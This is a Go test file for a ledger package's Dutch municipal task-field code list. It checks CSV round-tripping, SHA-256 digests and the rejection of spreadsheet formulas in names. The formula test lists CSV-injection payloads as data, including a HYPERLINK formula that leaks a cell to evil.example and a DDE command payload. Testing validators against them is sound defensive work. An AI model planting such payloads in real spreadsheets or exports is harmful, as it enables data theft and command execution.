package ledger_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/ontschot/ontschot/ledger"
)

// TestTaakveldCSVAsBefore: the code list goes through the product's one
// CSV writer and still comes out byte for byte as encoding/csv wrote it,
// so the digest the journal holds of an imported list does not change,
// and it reads back the same.
func TestTaakveldCSVAsBefore(t *testing.T) {
	list := ledger.DefaultTaakvelden()
	var want bytes.Buffer
	cw := csv.NewWriter(&want)
	cw.Write([]string{"code", "name", "law", "valid_from", "valid_to", "status"})
	for _, tv := range list {
		to := ""
		if tv.ValidTo != 0 {
			to = strconv.Itoa(tv.ValidTo)
		}
		laws := make([]string, len(tv.Laws))
		for i, l := range tv.Laws {
			laws[i] = string(l)
		}
		cw.Write([]string{tv.Code, tv.Name, strings.Join(laws, "+"), strconv.Itoa(tv.ValidFrom), to, tv.Status})
	}
	cw.Flush()
	var got bytes.Buffer
	if err := list.WriteCSV(&got); err != nil {
		t.Fatal(err)
	}
	if got.String() != want.String() {
		t.Fatalf("WriteCSV changed the bytes of the default list:\n%s\nwant\n%s", got.String(), want.String())
	}
	back, err := ledger.ParseTaakveldCSV(&got)
	if err != nil || len(back) != len(list) {
		t.Fatalf("read back: %d rows, %v", len(back), err)
	}
}

// TestTaakveldNameNoFormula: the list is edited in a spreadsheet and read
// back, so a name a spreadsheet would run as a formula is refused on its
// line rather than written with a guard that would not read back.
func TestTaakveldNameNoFormula(t *testing.T) {
	for _, name := range []string{`=HYPERLINK("http://evil.example/?"&A1,"Klik")`, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-Inkomensregelingen", "Inkomen;=1+1"} {
		l := ledger.TaakveldList{{Code: "6.3", Name: name, Laws: []ledger.Law{"participatiewet"}, ValidFrom: 2017, Status: "verified"}}
		if got := fieldReason(l.Validate(), "line 2.name"); !strings.Contains(got, "would be taken for a formula by a spreadsheet; begin the name") {
			t.Errorf("%q: line 2.name = %q", name, got)
		}
	}
	l := ledger.TaakveldList{{Code: "6.3", Name: "Inkomensregelingen - bijzondere bijstand", Laws: []ledger.Law{"participatiewet"}, ValidFrom: 2017, Status: "verified"}}
	if err := l.Validate(); err != nil {
		t.Fatal(err)
	}
}

// TestTaakveldDigest: a list's digest is the SHA-256 of its CSV form, the
// one the journal commits to on every import, and any change to a row
// changes it.
func TestTaakveldDigest(t *testing.T) {
	list := ledger.DefaultTaakvelden()
	var b bytes.Buffer
	if err := list.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(b.Bytes())
	if got, want := list.Digest(), hex.EncodeToString(sum[:]); got != want {
		t.Fatalf("Digest = %s; want the SHA-256 of the CSV, %s", got, want)
	}
	changed := slices.Clone(list)
	changed[0].Name += " (nieuw)"
	if changed.Digest() == list.Digest() {
		t.Fatal("a renamed row left the digest as it was")
	}
	if (ledger.TaakveldList{}).Digest() == list.Digest() {
		t.Fatal("an empty list has the digest of the whole list")
	}
}
